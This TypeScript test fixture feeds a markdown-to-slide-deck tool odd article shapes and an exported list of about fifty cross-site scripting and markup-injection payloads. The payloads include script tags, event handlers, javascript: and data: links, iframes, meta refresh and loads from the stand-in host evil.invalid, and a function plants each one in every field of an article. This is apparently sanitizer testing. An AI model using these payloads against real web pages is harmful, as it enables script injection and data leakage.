// Articles of odd shapes, and markup that must never reach a deck.
import type { Script } from "./talk.ts";

const SENTENCE = "The count of the boats went on in the rain, and nobody on the quay knew when it would end.";
const LONG_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft";
const numbered = (count: number, line: (n: number) => string, joint = "\n") =>
  Array.from({ length: count }, (_, n) => line(n + 1)).join(joint);

const SHAPES: Readonly<Record<string, string>> = {
  "one word": "Boats",
  "one letter": "x",
  "one emoji": "🚤",
  "one paragraph": SENTENCE,
  "no headings": numbered(12, (n) => `${SENTENCE} It was day ${n}.`, "\n\n"),
  "no quote and no number":
    "# The harbour\n\nThe boats lie still. Nobody counts them. The quay is empty, and the rain goes on.",
  "headings alone": "# The harbour\n\n## The boats\n\n## The quay\n",
  "headings with nothing under them, and text at the end": `# The harbour\n\n## The boats\n\n### The small ones\n\n## The quay\n\n${SENTENCE}`,
  "300 sections": numbered(300, (n) => `## Part ${n}\n\nBoat ${n} was counted on the quay.\n`),
  "300 sections of one word": numbered(300, (n) => `## ${n}\n\nBoats\n`),
  "a paragraph of 2,000 words": `${SENTENCE} `.repeat(110),
  "a sentence of 2,000 words": `${"the count of the boats went on and on in the rain ".repeat(180)}.`,
  "2,000 words between commas": `${"the count of the boats, which went on, ".repeat(250)}and no end.`,
  "an utterance of 900 words": `“${`${SENTENCE} `.repeat(50).trim()}” said Maria Jensen, 42, a teacher.`,
  "a quotation that never closes": `“${`${SENTENCE} `.repeat(20)}`,
  "a title of 120 words": `# ${"The harbour counts its boats again and again ".repeat(15)}\n\n${SENTENCE}`,
  "a heading of 120 words": `# Boats\n\n## ${"The harbour counts its boats again and again ".repeat(15)}\n\n${SENTENCE}`,
  "a word of 80 letters": `# ${LONG_WORD}\n\n## ${LONG_WORD}\n\n${LONG_WORD} ${LONG_WORD} is not a word, said ${LONG_WORD}.`,
  "a word of 5,000 letters": `# Boats\n\nThe word ${"a".repeat(5000)} is long.`,
  "a table of 40 columns": `| ${numbered(40, (n) => `c${n}`, " | ")} |\n|${"---|".repeat(40)}\n| ${numbered(40, (n) => `${n}`, " | ")} |\n`,
  "a table of 120 rows": `| boat | length |\n|---|--:|\n${numbered(120, (n) => `| boat number ${n} | ${n} m |`)}\n`,
  "a table with long cells": `| a | b |\n|---|---|\n| ${SENTENCE.repeat(8)} | ${SENTENCE.repeat(8)} |\n`,
  "a list of 100 items": `Boats:\n\n${numbered(100, (n) => `- boat number ${n}`)}\n`,
  "a list of long items": numbered(4, () => `- ${`${SENTENCE} `.repeat(12)}`),
  "a list twelve deep": numbered(12, (n) => `${"  ".repeat(n - 1)}- level ${n}`),
  "an empty list": "- \n- \n\nBoats.",
  "code alone": `\`\`\`js\n${numbered(120, (n) => `const boat${n} = ${n};`)}\n\`\`\``,
  "code in one line of 3,000 letters": `\`\`\`\n${"let boat = 1; ".repeat(215)}\n\`\`\``,
  "a picture without words": "![](boat.png)\n\nBoats.",
  "a picture alone": "![A boat](boat.png)",
  "the same sentence forty times": `${SENTENCE}\n\n`.repeat(40),
  "the same section ten times": `## The boats\n\n${SENTENCE}\n\n`.repeat(10),
  "quotes alone": numbered(
    20,
    (n) => `“We counted ${n} boats on the quay and then we counted them again,” said Maria Jensen.`,
    "\n\n",
  ),
  "lines that end in CR": `# Boats\r\r${SENTENCE}\r\r## Quay\r\r${SENTENCE}`,
  "lines that end in CRLF": `# Boats\r\n\r\n${SENTENCE}\r\n\r\n## Quay\r\n\r\n- a\r\n- b\r\n`,
  "a byte-order mark": `\ufeff# Boats\n\n${SENTENCE}`,
  "an unknown script": "# নৌকা\n\nবন্দর তার নৌকা গণনা করে। কেউ জানে না কখন শেষ হবে।",
  "right to left": "# הסירות\n\nהנמל סופר את סירותיו. איש אינו יודע מתי זה ייגמר.",
  Chinese: "# 港口\n\n港口正在清点船只。没有人知道什么时候会结束。",
  "control characters": `# Bo\u0007ats\n\nThe \u001b[31mquay\u001b[0m is \u200bempty\u202e and dark.`,
  "block quotes alone": `> ${SENTENCE}\n\n> ${SENTENCE}\n`,
  "block quotes nine deep": `${"> ".repeat(9)}${SENTENCE}`,
  "front matter that is no front matter": `---\nboats: [1, 2\n---\n\n${SENTENCE}`,
  "rules alone, and a word": "---\n\n***\n\n___\n\nBoats.",
  "unclosed markup": "# **Boats\n\n*The `quay [is](http:// ![here <b>and _there\n\n```js\nlet",
};

/** Texts of every shape there is, each of which makes a deck. */
export function shapes(): readonly Script[] {
  return Object.entries(SHAPES).map(([name, text]) => ({ name: `${name}.md`, text }));
}

/** What would run, load or look like something else, were it let through. Each sets `pwned`, or asks `evil.invalid`. */
export const PAYLOADS: readonly string[] = [
  "<script>pwned=1</script>",
  "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
  "<script\n>pwned=1</script\n>",
  "<scr<script>ipt>pwned=1</scr</script>ipt>",
  '"><script>pwned=1</script>',
  "</title><script>pwned=1</script>",
  "</style><script>pwned=1</script>",
  "</aside></section></div><script>pwned=1</script>",
  "--><script>pwned=1</script><!--",
  "<![CDATA[<script>pwned=1</script>]]>",
  '<img src=x onerror="pwned=1">',
  "<img src=https://evil.invalid/a.png>",
  '<img src="x` `<script>pwned=1</script>"` `>',
  "<svg onload=pwned=1>",
  "<svg/onload=pwned=1//",
  "<svg><script>pwned=1</script></svg>",
  '<svg><use href="https://evil.invalid/a.svg#x"/></svg>',
  '<math><mtext><img src=x onerror="pwned=1"></mtext></math>',
  '<b onmouseover="pwned=1">bold</b>',
  '<p style="background:url(https://evil.invalid/a.png)">styled</p>',
  "<style>@import 'https://evil.invalid/a.css';body{display:none}</style>",
  '<link rel=stylesheet href="https://evil.invalid/a.css">',
  '<iframe src="https://evil.invalid/"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="https://evil.invalid/a.swf"></object>',
  '<embed src="https://evil.invalid/a.swf">',
  '<form action="https://evil.invalid/"><input name=a autofocus onfocus=pwned=1><button>send</button></form>',
  '<video src="https://evil.invalid/a.mp4" autoplay></video>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<a href="javascript:pwned=1">a link</a>',
  '<a href="java&#115;cript:pwned=1">a link</a>',
  "[a link](javascript:pwned=1)",
  "[a link](<javascript:pwned=1>)",
  "[a link](JaVaScRiPt:pwned=1)",
  "[a link](&#106;avascript:pwned=1)",
  "[a link](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
  "[a link](vbscript:pwned=1)",
  "<javascript:pwned=1>",
  "![a picture](javascript:pwned=1)",
  "![a picture](https://evil.invalid/a.png)",
  '![a picture](x.png"onerror="pwned=1)',
  '![a "onerror="pwned=1](x.png)',
  "{{constructor.constructor('pwned=1')()}}",
  "{{{<script>pwned=1</script>}}}",
  "`<script>pwned=1</script>`",
  "<template><script>pwned=1</script></template>",
  '<noscript><p title="</noscript><script>pwned=1</script>">',
  "<details open ontoggle=pwned=1>",
  '<!-- .slide: data-background-iframe="https://evil.invalid/" -->',
  '<section data-background-image="https://evil.invalid/a.png">',
];

/** A payload in every place of an article. */
export function poisoned(payload: string): Script {
  const inQuotes = payload.replaceAll("\n", " ").replaceAll("\\", "").replaceAll('"', '\\"');
  const line = payload.replaceAll("\n", " ");
  const text = `---
title: "Boats ${inQuotes}"
kicker: "${inQuotes}"
author: "Ann ${inQuotes} Doe"
publication: "${inQuotes}"
licence: "${inQuotes}"
url: "https://example.org/${inQuotes}"
presenter: "${inQuotes}"
event: "${inQuotes}"
contact: "${inQuotes}"
---

*The harbour ${line} counts its boats.*

On 6 March 2022, more than 400 people ${line} gathered on the quay of Eastport to watch the count.

${payload}

“We thought it ${line} would take an hour, and then another one,” said Maria ${line} Jensen, 42, a teacher ${line} from Eastport.

## What ${line} changed

About 20% of the boats ${line} had no number, compared to 5% in the harbour of Westport.

- one boat ${line}
- two boats

| boat ${line.replaceAll("|", "")} | b |
|---|---|
| 1 ${line.replaceAll("|", "")} | 2 |

\`\`\`${line.replaceAll("`", "")}
${payload}
\`\`\`

> A quotation ${line} that nobody said.

[the quay][r] and ![the boats ${line}](boats.png "${line}")

[r]: ${line}
`;
  return { name: "poisoned.md", text };
}
